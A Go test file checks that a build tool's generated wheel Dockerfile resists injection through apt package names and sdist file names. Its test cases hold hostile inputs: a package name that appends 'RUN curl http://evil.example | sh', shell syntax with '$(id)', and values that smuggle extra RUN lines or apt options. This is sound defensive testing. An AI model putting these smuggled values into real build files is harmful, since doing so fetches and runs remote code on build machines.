package buildkit

import (
	"os/exec"
	"slices"
	"strings"
	"testing"

	"github.com/moby/buildkit/frontend/dockerfile/parser"

	"github.com/larder-build/larder/internal/testenv"
)

// instructions parses a Dockerfile with BuildKit's own parser and returns
// its instructions, each as its keyword and its original text.
func instructions(t *testing.T, dockerfile string) (keywords, lines []string) {
	t.Helper()
	res, err := parser.Parse(strings.NewReader(dockerfile))
	if err != nil {
		t.Fatalf("BuildKit does not parse the Dockerfile: %v\n%s", err, dockerfile)
	}
	for _, n := range res.AST.Children {
		keywords = append(keywords, strings.ToLower(n.Value))
		lines = append(lines, n.Original)
	}
	return keywords, lines
}

// TestWheelDockerfileGetsNoLineOrShellWordFromItsInputs builds the
// Dockerfile of a wheel build from hostile inputs: apt packages with a
// newline or shell syntax are refused, and a target (an sdist's file name
// from the lock) with quotes and shell syntax stays one word for the
// shell, so BuildKit reads exactly the five instructions larder writes
// and sh reads exactly one path.
func TestWheelDockerfileGetsNoLineOrShellWordFromItsInputs(t *testing.T) {
	want := []string{"from", "run", "run", "from", "copy"}
	accepted := []struct {
		name   string
		apt    []string
		target string
	}{
		{"plain packages and an sdist", []string{"libxml2-dev", "g++", "libc6:amd64", "libssl-dev=3.0.11-1~deb12u2"}, "lxml-5.2.1.tar.gz"},
		{"a target with quotes, spaces and shell syntax is one word", []string{"gcc"}, `a'b "c" $(id) ; touch x; # <<EOF \`},
		{"a git subdirectory", []string{"pkg-config", "libmariadb-dev-compat:arm64=1:10.11.6-0+deb12u1"}, "src/py pkg"},
	}
	sh := testenv.Tool(t, "sh")
	for _, tt := range accepted {
		t.Run(tt.name, func(t *testing.T) {
			df, err := wheelDockerfile(tt.apt, tt.target)
			if err != nil {
				t.Fatal(err)
			}
			keywords, lines := instructions(t, df)
			if !slices.Equal(keywords, want) {
				t.Fatalf("instructions %q, want %q:\n%s", keywords, want, df)
			}
			if got := strings.Fields(lines[1]); !slices.Equal(got[len(got)-len(tt.apt):], tt.apt) {
				t.Errorf("apt line %q does not end with the packages %q", lines[1], tt.apt)
			}
			// The build's shell, run on its last words, sees one path.
			_, cmdline, ok := strings.Cut(lines[2], "--wheel-dir /out ")
			if !ok {
				t.Fatalf("no pip wheel in %q", lines[2])
			}
			cmd := exec.Command(sh, "-c", `eval "set -- $1"; printf '%s\n' "$#" "$1"`, "sh", cmdline)
			cmd.Dir = t.TempDir() // where a word that escaped its quotes would run
			out, err := cmd.Output()
			if err != nil {
				t.Fatal(err)
			}
			if got, want := string(out), "1\n/tmp/src/"+tt.target+"\n"; got != want {
				t.Errorf("sh reads %q as %q, want %q", cmdline, got, want)
			}
		})
	}
	refused := []struct {
		name     string
		apt      []string
		target   string
		wantText string
	}{
		{"a newline adds an instruction", []string{"gcc\nRUN curl http://evil.example | sh"}, "x.tar.gz", "not a Debian package"},
		{"a space adds a word", []string{"gcc -o APT::Get::AllowUnauthenticated=1"}, "x.tar.gz", "not a Debian package"},
		{"shell syntax", []string{"gcc;id"}, "x.tar.gz", "not a Debian package"},
		{"an option", []string{"--allow-unauthenticated"}, "x.tar.gz", "not a Debian package"},
		{"an empty version", []string{"gcc="}, "x.tar.gz", "not a Debian package"},
		{"a newline in the target", nil, "x.tar.gz\nRUN id", "control character"},
		{"a carriage return in the target", []string{"gcc"}, "x\r.tar.gz", "control character"},
		{"a target that is not UTF-8", nil, "x\xff.tar.gz", "not UTF-8"},
	}
	for _, tt := range refused {
		t.Run(tt.name, func(t *testing.T) {
			df, err := wheelDockerfile(tt.apt, tt.target)
			if err == nil || !strings.Contains(err.Error(), tt.wantText) {
				t.Fatalf("wheelDockerfile(%q, %q) = %v, want an error saying %q; it wrote:\n%s", tt.apt, tt.target, err, tt.wantText, df)
			}
			if strings.ContainsAny(err.Error(), "\n\r") {
				t.Errorf("the error holds a raw line break: %q", err)
			}
		})
	}
}
